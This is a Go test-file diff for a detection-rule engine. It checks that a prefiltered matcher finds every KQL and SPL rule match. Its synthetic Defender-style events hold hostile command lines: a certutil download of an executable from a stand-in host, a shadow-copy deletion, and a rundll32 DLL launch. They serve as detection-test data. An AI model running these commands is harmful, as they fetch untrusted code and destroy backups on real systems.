@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/ruledex/ruledex/event"
 	"github.com/ruledex/ruledex/internal/corpustest"
 	"github.com/ruledex/ruledex/lang/kql"
 	"github.com/ruledex/ruledex/lang/spl"
@@ -121,5 +122,87 @@ func TestPipelineRulesRunOrSayWhy(t *testing.T) {
 		if got := len(m.Match(ev(tc.kv...), nil)) == 1; got != tc.want {
 			t.Errorf("%s: matched %v, want %v", tc.name, got, tc.want)
 		}
+	}
+}
+
+// pipelineCorpus parses every KQL and SPL rule of the corpus.
+func pipelineCorpus(t *testing.T) []*rule.Rule {
+	t.Helper()
+	dir := corpustest.Dir(t)
+	sp := &spl.Parser{}
+	if err := sp.Begin(filepath.Join(dir, "spl")); err != nil {
+		t.Fatal(err)
+	}
+	type parser interface {
+		Detect(string, []byte) bool
+		Parse(rule.Source, []byte) ([]*rule.Rule, []rule.Diagnostic)
+	}
+	var out []*rule.Rule
+	for _, d := range []struct {
+		dir string
+		p   parser
+	}{{"kql", kql.Parser{}}, {"spl", sp}} {
+		base := filepath.Join(dir, d.dir)
+		filepath.WalkDir(base, func(p string, de os.DirEntry, err error) error {
+			if err != nil || de.IsDir() {
+				return err
+			}
+			data, err := os.ReadFile(p)
+			if err != nil {
+				return err
+			}
+			rel, _ := filepath.Rel(base, p)
+			if d.p.Detect(filepath.ToSlash(rel), data) {
+				rs, _ := d.p.Parse(rule.Source{Repo: d.dir, Path: filepath.ToSlash(rel)}, data)
+				out = append(out, rs...)
+			}
+			return nil
+		})
+	}
+	if len(out) < 3000 {
+		t.Fatalf("parsed only %d KQL and SPL rules", len(out))
+	}
+	return out
+}
+
+// The prefilter with resolved fields (a literal may sit on the mapped field or on the
+// column as the rule names it) never hides a match of a KQL or SPL rule: on every
+// regression event, and on Defender-style events that carry the rules' own column
+// names, the prefiltered matcher reports what evaluating every rule reports.
+func TestPrefilterSoundOtherLanguages(t *testing.T) {
+	rules := pipelineCorpus(t)
+	cat, err := winevent.Load(corpustest.Path(t, "events"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	fast, skipped := Compile(rules, Options{Router: CatalogRouter{Catalog: cat}})
+	slow, _ := Compile(rules, Options{Router: CatalogRouter{Catalog: cat}, bruteForce: true})
+	t.Logf("%d of %d KQL/SPL rules compiled, %d skipped with a reason", len(fast.Rules()), len(rules), len(skipped))
+	var evs []event.Event
+	for _, c := range regressionCases(t) {
+		e, _ := readEvents(c.evtx)
+		evs = append(evs, e...)
+	}
+	defender := []*event.Event{
+		ev("FileName", "certutil.exe", "FolderPath", `C:\Windows\System32\certutil.exe`, "ProcessCommandLine", "certutil -urlcache -f http://x/a.exe a.exe"),
+		ev("FileName", "wmic.exe", "ProcessCommandLine", "wmic shadowcopy delete"),
+		ev("FileName", "rundll32.exe", "ProcessCommandLine", `rundll32.exe C:\x.dll,DllRegisterServer`, "InitiatingProcessFileName", "cmd.exe"),
+	}
+	for i := range evs {
+		defender = append(defender, &evs[i])
+	}
+	matches := 0
+	for i, e := range defender {
+		a, b := ids(fast.Match(e, nil)), ids(slow.Match(e, nil))
+		if a != b {
+			t.Errorf("event %d: prefiltered %q, every rule %q", i, a, b)
+		}
+		if b != "" {
+			matches += strings.Count(b, ",") + 1
+		}
+	}
+	t.Logf("%d events, %d matches compared", len(defender), matches)
+	if matches == 0 {
+		t.Error("no KQL or SPL rule matched any event: the comparison proves nothing")
 	}
 }
